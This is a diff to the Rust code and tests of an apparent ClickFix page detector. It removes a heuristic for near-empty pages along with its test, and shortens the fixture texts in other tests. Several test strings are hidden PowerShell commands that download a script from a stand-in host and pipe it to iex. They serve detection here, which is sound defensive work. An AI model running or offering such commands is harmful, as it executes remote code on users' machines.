@@ -53,9 +53,6 @@ const TYPED_AFTER: usize = 1500;
 /// Bytes between two half-weight run places that name one place ("open File Explorer, click the
 /// address bar").
 const RUN_PLACE_PAIR: usize = 120;
-/// Bytes of title, text and alt texts (flattened) of a page that says next to nothing: its steps,
-/// if any, are in a picture.
-const TERSE_PAGE: usize = 160;
 
 /// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -2289,24 +2286,13 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // (A hidden or encoded script fetching only over https is not enough: a docs page's hidden
     // tab copies `powershell -WindowStyle Hidden -Command "iwr https://…/install.ps1 | iex"`.
     // A page cut at the snapshot's bound may show the command past it: review 25 M1.)
-    // Steps drawn in a picture on a page of a few words ("Just a moment...", a button): a hidden
-    // window that downloads and runs from another site is ClickFix on its own evidence (review 39
-    // R39-M4). A docs page's hidden tab copying the same is a page of many words.
-    let terse = page.flat.len() <= TERSE_PAGE
-        && command.shapes.contains(&Shape::PowerShellHidden)
-        && command.shapes.contains(&Shape::PowerShellDownload)
-        && command.remote
-        && !command.fetches_from_site(&page.site)
-        && !command.fetches_from_owned(&page.site)
-        && page.weight(Cat::InstallDocs) < 1.0;
     let unseen = !typed
         && !page.cut
-        && (fetch > 0 || command.hides_script() && command.https_sites.is_empty() || terse)
+        && (fetch > 0 || command.hides_script() && command.https_sites.is_empty())
         && !page.shows_head(&command)
         && !write_up
         && (fetch > 1 && (command.strong() || command.windows_payload())
             || told
-            || terse
             || verify > 0.0
             || run_dialog
             || terminal
@@ -2443,31 +2429,6 @@ mod tests {
         }
         // The paste step alone names no Terminal.
         assert!(!judged(cmd, "Befehl einfügen (Cmd + V), dann Return."));
-    }
-
-    #[test]
-    fn a_hidden_download_run_on_a_page_of_a_few_words_is_clickfix() {
-        // Review 39 R39-M4: the steps are in a picture; the page says next to nothing.
-        let cmd = "powershell -w hidden -c \"iwr https://relay-cdn.test/s | iex\"";
-        let terse = |text: &str, url: &str| {
-            assess(cmd, &PageHits::new(["Just a moment...", text]).on(url)).is_some()
-        };
-        assert!(terse("I am human", "https://gate-check.example/"));
-        assert!(terse("", "https://gate-check.example/"));
-        // From the page's own site, or on a page that says what it is: not on its own evidence.
-        assert!(!terse("I am human", "https://relay-cdn.test/"));
-        let admin = "Deploying the agent (administrators). This article is for departmental IT \
-                     administrators who deploy the monitoring agent to lab machines from an elevated \
-                     session or with their management tool; the window stays hidden.";
-        assert!(!terse(admin, "https://it.uni.example/kb"));
-        // Not hidden, or hidden but fetching nothing: a tool's terse landing page, a kiosk.
-        for other in [
-            "irm https://get.tool.test/install.ps1 | iex",
-            "powershell -WindowStyle Hidden -File C:\\Kiosk\\start.ps1",
-        ] {
-            let page = PageHits::new(["Toolbox", "Copy"]).on("https://toolbox.example/");
-            assert!(assess(other, &page).is_none(), "{other}");
-        }
     }
 
     #[test]
@@ -3102,15 +3063,8 @@ mod tests {
             "Please complete the verification steps below"
         ));
         assert!(judged("cmd /c calc", "I'm not a robot"));
-        // Nothing on the page but what a docs page says: a plain command copy stays silent (a
-        // page of a few words copying a hidden download run is judged on the command's own
-        // evidence: `a_hidden_download_run_on_a_page_of_a_few_words_is_clickfix`).
-        assert!(!judged(
-            ps,
-            "Our product documentation. The command-line tool manages your projects, \
-             environments and deployments; the reference below lists every subcommand, option and \
-             environment variable, with examples for each."
-        ));
+        // Nothing on the page: a plain command copy stays silent.
+        assert!(!judged(ps, "Our product documentation"));
         assert!(!judged("cmd /c calc", "Press Enter to continue"));
     }
 
@@ -4297,12 +4251,7 @@ mod tests {
         let snap = |dialogs: &[&str]| Snapshot {
             url: "https://files-share.example/doc".into(),
             title: "Document".into(),
-            // (More than a few words: a page saying only "Loading… Please wait" is judged on
-            // the hidden download run alone.)
-            text: "Loading the document. Please wait. The quarterly report of the planning \
-                   committee, with the minutes of its last meeting, the budget tables and the \
-                   appendix on the new cycle paths, opens in a moment."
-                .into(),
+            text: "Loading the document. Please wait.".into(),
             clipboard: Clipboard {
                 text: "powershell -w hidden -c \"iwr https://cdn.example/a.ps1 | iex\"".into(),
                 via: "execCommand".into(),
